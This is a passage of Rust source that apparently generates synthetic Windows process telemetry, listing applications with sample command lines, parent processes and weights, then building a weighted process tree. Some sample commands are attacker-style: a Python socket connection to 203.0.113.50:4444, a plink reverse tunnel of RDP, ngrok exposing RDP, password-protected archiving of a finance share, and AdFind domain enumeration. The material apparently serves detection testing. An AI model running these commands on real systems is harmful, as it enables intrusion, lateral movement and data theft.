    app("7z.exe", r"C:\Program Files\7-Zip", "Igor Pavlov", "7-Zip", "23.01", 571_904, &[r"7z.exe a -tzip C:\Users\Public\out.zip C:\Shares\Finance\* -pS3cretPass -mhe=on", r#""C:\Program Files\7-Zip\7z.exe" x "C:\Users\jsmith\Downloads\Invoice 4521.zip" -oC:\Users\jsmith\Downloads\"#, r"7z.exe a backup.7z D:\Projects"], &["explorer.exe", "cmd.exe", "powershell.exe"], 3),
    app("WinRAR.exe", r"C:\Program Files\WinRAR", "Alexander Roshal", "WinRAR archiver", "7.01.0", 3_112_448, &[r#""C:\Program Files\WinRAR\WinRAR.exe" a -hpS3cret -r C:\Users\Public\d.rar C:\Users\jsmith\Documents"#, r#""C:\Program Files\WinRAR\WinRAR.exe" "C:\Users\jsmith\Downloads\scan.rar""#], &["explorer.exe", "cmd.exe"], 2),
    app("git.exe", r"C:\Program Files\Git\cmd", "The Git Development Community", "Git", "2.47.1.1", 45_640, &["git.exe pull origin main", "git clone https://github.com/contoso/app.git", "git.exe fetch --all", "git push origin feature/login"], &["explorer.exe", "cmd.exe", "powershell.exe", "Code.exe"], 5),
    app("python.exe", r"C:\Program Files\Python312", "Python Software Foundation", "Python", "3.12.7", 103_192, &[r"python.exe C:\Scripts\etl.py", "python.exe -m pip install requests", r#"python -c "import socket,subprocess;s=socket.socket();s.connect(('203.0.113.50',4444))""#], &["cmd.exe", "powershell.exe", "Code.exe"], 3),
    app("putty.exe", r"C:\Program Files\PuTTY", "Simon Tatham", "PuTTY suite", "0.81.0.0", 1_650_832, &["putty.exe -ssh admin@10.0.5.10", "plink.exe -ssh -R 4444:127.0.0.1:3389 user@203.0.113.50"], &["explorer.exe", "cmd.exe"], 1),
    app("ngrok.exe", r"C:\Users\Public", "ngrok LLC", "ngrok", "3.18.4", 25_366_528, &["ngrok.exe tcp 3389", "ngrok http 8080"], &["cmd.exe", "powershell.exe"], 1),
    app("nmap.exe", r"C:\Program Files (x86)\Nmap", "Insecure.Com LLC (nmap.org)", "Nmap", "7.95", 2_993_664, &["nmap -sS -p 445,3389 10.0.0.0/16", "nmap.exe -sV 10.0.2.22"], &["cmd.exe", "powershell.exe"], 1),
    app("AdFind.exe", r"C:\Users\Public", "www.joeware.net", "AdFind", "1.57.0.0", 1_596_928, &[r#"AdFind.exe -f "(objectcategory=computer)" > C:\Users\Public\ad_computers.txt"#, "adfind.exe -gcb -sc trustdmp", r#"adfind -f "(objectcategory=group)""#], &["cmd.exe"], 1),
    // Office, browsers and everyday enterprise software.
    app("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS, "Microsoft Office", "16.0.17928.20156", 1_937_800, &[r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\jsmith\Downloads\Invoice 4521.docm""#, r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\jsmith\Documents\Q3 report.docx" /o """#, r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" -Embedding"#, r#""WINWORD.EXE" /n "C:\Users\jsmith\Downloads\Invoice 4521.docm" /o """#], &["explorer.exe", "OUTLOOK.EXE", "msedge.exe"], 12),
    app("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS, "Microsoft Office", "16.0.17928.20156", 66_193_272, &[r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\jsmith\Documents\budget 2027.xlsx""#, r#""EXCEL.EXE" "C:\Users\jsmith\Downloads\Payment_advice.xlsm""#, r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\jsmith\Downloads\Payment_advice.xlsm""#], &["explorer.exe", "OUTLOOK.EXE"], 10),
    app("POWERPNT.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS, "Microsoft Office", "16.0.17928.20156", 1_946_488, &[r#""C:\Program Files\Microsoft Office\Root\Office16\POWERPNT.EXE" "C:\Users\jsmith\Documents\board deck.pptx""#], &["explorer.exe", "OUTLOOK.EXE"], 4),
    app("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS, "Microsoft Outlook", "16.0.17928.20156", 43_524_472, &[r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE""#, r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" /recycle"#], &["explorer.exe"], 10),
    app("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", MS, "Microsoft Edge", "131.0.2903.86", 4_102_568, &[r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en-US"#, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://contoso.sharepoint.com/sites/finance"#, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService"#], &["explorer.exe", "msedge.exe", "OUTLOOK.EXE"], 30),
    app("chrome.exe", r"C:\Program Files\Google\Chrome\Application", "Google LLC", "Google Chrome", "131.0.6778.86", 3_095_456, &[r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US"#, r#""C:\Program Files\Google\Chrome\Application\chrome.exe" https://contoso.sharepoint.com/"#, r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process"#], &["explorer.exe", "chrome.exe", "OUTLOOK.EXE"], 25),
    app("firefox.exe", r"C:\Program Files\Mozilla Firefox", "Mozilla Corporation", "Firefox", "133.0.0.8624", 675_896, &[r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID 4 -isForBrowser"#], &["explorer.exe", "firefox.exe"], 6),
    app("Teams.exe", r"C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current", MS, "Microsoft Teams", "1.7.00.13456", 134_263_232, &[r#""C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current\Teams.exe" --processStart "Teams.exe""#], &["explorer.exe"], 8),
    app("ms-teams.exe", r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe", MS, "Microsoft Teams", "24295.605.3225.8804", 10_227_144, &[r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#], &["explorer.exe", "svchost.exe"], 8),
    app("OneDrive.exe", r"C:\Program Files\Microsoft OneDrive", MS, "Microsoft OneDrive", "24.226.1110.0004", 3_625_952, &[r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#], &["explorer.exe", "svchost.exe"], 8),
    app("Code.exe", r"C:\Users\jsmith\AppData\Local\Programs\Microsoft VS Code", MS, "Visual Studio Code", "1.95.3", 164_617_024, &[r#""C:\Users\jsmith\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility"#], &["explorer.exe", "Code.exe"], 5),
    app("devenv.exe", r"C:\Program Files\Microsoft Visual Studio\2022\Enterprise\Common7\IDE", MS, "Microsoft® Visual Studio®", "17.12.35514.174", 938_416, &[r#""C:\Program Files\Microsoft Visual Studio\2022\Enterprise\Common7\IDE\devenv.exe" C:\src\App.sln"#], &["explorer.exe"], 2),
    app("AcroRd32.exe", r"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader", "Adobe Systems Incorporated", "Adobe Acrobat Reader DC", "24.4.20272.0", 3_318_072, &[r#""C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe" "C:\Users\jsmith\Downloads\Invoice 4521.pdf""#], &["explorer.exe", "OUTLOOK.EXE", "msedge.exe"], 5),
    app("zoom.exe", r"C:\Users\jsmith\AppData\Roaming\Zoom\bin", "Zoom Video Communications, Inc.", "Zoom", "6.2.11.57410", 1_121_392, &[r#""C:\Users\jsmith\AppData\Roaming\Zoom\bin\Zoom.exe" "--url=zoommtg://zoom.us/join?confno=123456789""#], &["explorer.exe", "msedge.exe", "chrome.exe"], 3),
    app("CcmExec.exe", r"C:\Windows\CCM", MS, "System Center Configuration Manager", "5.00.9128.1000", 3_124_872, &[r"C:\Windows\CCM\CcmExec.exe"], &["services.exe"], 4),
    app("MsSense.exe", r"C:\Program Files\Windows Defender Advanced Threat Protection", MS, "Microsoft Defender for Endpoint", "10.8760.19041.5131", 4_895_024, &[r#""MsSense.exe""#], &["services.exe"], 3),
    app("SenseIR.exe", r"C:\Program Files\Windows Defender Advanced Threat Protection", MS, "Microsoft Defender for Endpoint", "10.8760.19041.5131", 2_031_400, &[r#""SenseIR.exe" "OnlineSenseIR" "3932""#], &["MsSense.exe"], 1),
    app("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0", MS, "Microsoft Defender Antivirus", "4.18.24090.11", 133_512, &[r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe""#], &["services.exe"], 2),
    app("w3wp.exe", r"C:\Windows\System32\inetsrv", MS, "Internet Information Services", "10.0.20348.1", 31_232, &[r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm"#, r#"c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\Program Files\Microsoft\Exchange Server\V15\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config""#], &["svchost.exe"], 4),
    app("sqlservr.exe", r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn", MS, "Microsoft SQL Server", "2022.160.4135.4", 595_232, &[r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#], &["services.exe"], 2),
    app("java.exe", r"C:\Program Files\Java\jre1.8.0_381\bin", "Oracle Corporation", "Java(TM) Platform SE 8", "8.0.3810.9", 269_456, &[r#""C:\Program Files\Java\jre1.8.0_381\bin\java.exe" -jar C:\Apps\reporting\server.jar"#, r#"java.exe -Xmx2g -cp lib\* org.apache.catalina.startup.Bootstrap start"#], &["services.exe", "cmd.exe"], 3),
    app("node.exe", r"C:\Program Files\nodejs", "Node.js", "Node.js", "20.18.1", 84_126_744, &[r"node.exe C:\Apps\portal\server.js", "node.exe npm install"], &["cmd.exe", "powershell.exe", "Code.exe"], 3),
];

/// The catalog's parent links resolved to indices, and the cumulative weights of the picks.
pub(super) struct Tree {
    /// `parents[i]`: the catalog indices of the processes that start `PROCS[i]`.
    pub(super) parents: Vec<Vec<usize>>,
    cumulative: Vec<u64>,
}

impl Tree {
    /// The catalog index of the created process for a hash `h`, skewed by the weights.
    pub(super) fn child(&self, h: u64) -> usize {
        let total = self.cumulative.last().copied().unwrap_or(1);
        let x = h % total;
        self.cumulative.partition_point(|&c| c <= x)
    }

    /// A parent of `PROCS[i]` drawn with `h`.
    pub(super) fn parent(&self, i: usize, h: u64) -> usize {
        let ps = &self.parents[i];
        ps[(h % ps.len() as u64) as usize]
    }
}

/// The catalog index of `file`.
pub(super) fn index(file: &str) -> Option<usize> {
    PROCS.iter().position(|p| p.file.eq_ignore_ascii_case(file))
}

pub(super) fn tree() -> &'static Tree {
    static TREE: OnceLock<Tree> = OnceLock::new();
    TREE.get_or_init(|| {
        let fallback = index("explorer.exe").unwrap_or(0);
        let parents = PROCS
            .iter()
            .map(|p| {
                let v: Vec<usize> = p.parents.iter().filter_map(|f| index(f)).collect();
                if v.is_empty() { vec![fallback] } else { v }
            })
            .collect();
        let mut sum = 0;
        let cumulative = PROCS
            .iter()
            .map(|p| {
                sum += u64::from(p.weight.max(1));
                sum
            })
            .collect();
        Tree { parents, cumulative }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_parent_is_in_the_catalog_and_picks_follow_weights() {
        for p in PROCS {
            for f in p.parents {
                assert!(index(f).is_some(), "{}: parent {f} missing", p.file);
            }
            assert!(!p.cmds.is_empty(), "{}", p.file);
        }
        let t = tree();
        let mut seen = vec![0u32; PROCS.len()];
        for h in 0..100_000u64 {
            seen[t.child(h.wrapping_mul(0x9E37_79B9_7F4A_7C15))] += 1;
        }
        assert!(seen.iter().all(|&n| n > 0), "every process is drawn");
        let at = |f: &str| seen[index(f).unwrap()];
        assert!(at("powershell.exe") > 10 * at("ntdsutil.exe"), "weights skew the picks");
        // Office spawns shells: a macro's tree exists.
        let ps = index("powershell.exe").unwrap();
        assert!(t.parents[ps].contains(&index("WINWORD.EXE").unwrap()));
    }
}
